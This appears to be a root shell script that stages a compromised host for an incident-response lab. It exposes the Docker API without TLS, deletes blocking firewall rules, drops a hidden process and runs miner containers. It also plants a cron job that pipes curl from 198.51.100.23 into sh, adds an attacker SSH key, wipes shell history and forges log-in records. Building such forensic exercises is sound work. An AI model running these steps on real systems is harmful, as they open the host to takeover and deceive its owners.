# Runs inside a host, as root. Stages what the attacker of the story left, or puts back what was removed since.
# LAB_CPU, LAB_MINER_CPU: percent of one core. LAB_MINUTES: after this everything ends by itself. LAB_RESPAWN: seconds.
# Beforehand put into /run/.stage: hider (the program), attack-images.tar, attacker.pub, wtmp (the records of the attacker's log-ins).
set -eu
came_at=$(($(date +%s) - 10800))
stamp() { touch -d "@$came_at" "$@"; }

miner() { # miner IMAGE [docker run options]: names by the engine, no labels, root
  image=$1
  shift
  old=$(docker ps -aq --filter "ancestor=$image")
  [ -z "$old" ] || docker rm -f $old > /dev/null
  docker run -d --restart always -e "LAB_CPU=$LAB_MINER_CPU" -e "LAB_MINUTES=$LAB_MINUTES" "$@" "$image" > /dev/null
}

exists() { docker container inspect "$1" > /dev/null 2>&1; }

open_the_api() {
  drop_in=/etc/systemd/system/docker.service.d/override.conf
  if grep -qs 'tcp://0.0.0.0:2375' "$drop_in"; then return; fi
  mkdir -p "${drop_in%/*}"
  printf '[Service]\nExecStart=\nExecStart=/usr/sbin/dockerd -H fd:// -H tcp://0.0.0.0:2375 --tls=false --containerd=/run/containerd/containerd.sock\n' > "$drop_in"
  systemctl daemon-reload
  systemctl reset-failed docker.service
  systemctl restart docker
}

# A firewall rule or a daemon.json of a later clean-up would keep the door shut all the same.
unblock() {
  for port in 2375 6379; do
    for chain in INPUT DOCKER-USER; do
      iptables -S "$chain" 2> /dev/null | grep -e "dport $port " -e "dports $port" -e "ctorigdstport $port " | sed 's/^-A/-D/' |
        while read -r rule; do eval "iptables $rule"; done
    done
  done
}

owners_troubles() { # what the owner noticed, or did not
  for name in shop-billing-api-1 shop-report-worker-1 shop-mail-relay-1; do
    exists "$name" && docker rm -f "$name" > /dev/null
  done
  compose shop billing-api -p 127.0.0.1:3001:3001 ghcr.io/acme-shop/billing-api:1.9.0 &
  compose shop report-worker --memory 16m --memory-swap 16m ghcr.io/acme-shop/report-worker:1.3.0 &
  compose shop mail-relay --restart always ghcr.io/acme-shop/mail-relay:3.2.0 &
  wait
}

hidden_process() {
  for exe in /proc/[0-9]*/exe; do
    case $(readlink "$exe" 2> /dev/null) in
      /var/tmp/.x/*) pid=${exe#/proc/}; kill -9 "${pid%/exe}" 2> /dev/null || true ;;
    esac
  done
  mkdir -p /var/tmp/.x
  rm -f /var/tmp/.x/.sysd
  cp /run/.stage/hider /var/tmp/.x/.sysd
  chmod 755 /var/tmp/.x/.sysd
  stamp /var/tmp/.x/.sysd
  env -i PATH=/usr/bin:/bin HOME=/root LAB_CPU="$LAB_CPU" LAB_MINUTES="$LAB_MINUTES" LAB_RESPAWN="$LAB_RESPAWN" /var/tmp/.x/.sysd -w
}

staying() { # cron, key, history, log-ins
  tab=/var/spool/cron/crontabs/root
  line='*/5 * * * * curl -fsSL http://198.51.100.23/mac.sh | sh'
  grep -qsF "$line" "$tab" || printf '%s\n' "$line" >> "$tab"
  chmod 600 "$tab"
  stamp "$tab"
  keys=/root/.ssh/authorized_keys
  mkdir -p /root/.ssh
  grep -qs 'root@kali$' "$keys" || cat /run/.stage/attacker.pub >> "$keys"
  chmod 600 "$keys"
  stamp "$keys"
  : > /root/.bash_history
  stamp /root/.bash_history
  if ! grep -qs 198.51.100.77 /var/log/auth.log; then
    printf '%s infected sshd[4121]: Accepted publickey for root from 198.51.100.77 port 41822 ssh2: ED25519 %s\n' \
      "$(LC_ALL=C date -d "@$((came_at + 240))" '+%b %e %H:%M:%S')" "$(ssh-keygen -lf "$keys" | awk '/root@kali/ {print $2}')" >> /var/log/auth.log
    cat /run/.stage/wtmp >> /var/log/wtmp
  fi
}

open_the_api
unblock
docker image inspect heybb/theimg2 zoolu/ubuntu > /dev/null 2>&1 || docker load -q -i /run/.stage/attack-images.tar > /dev/null
owners_troubles &
hidden_process &
staying &
miner heybb/theimg2 -v /:/host &
miner zoolu/ubuntu &
wait
rm -rf /run/.stage
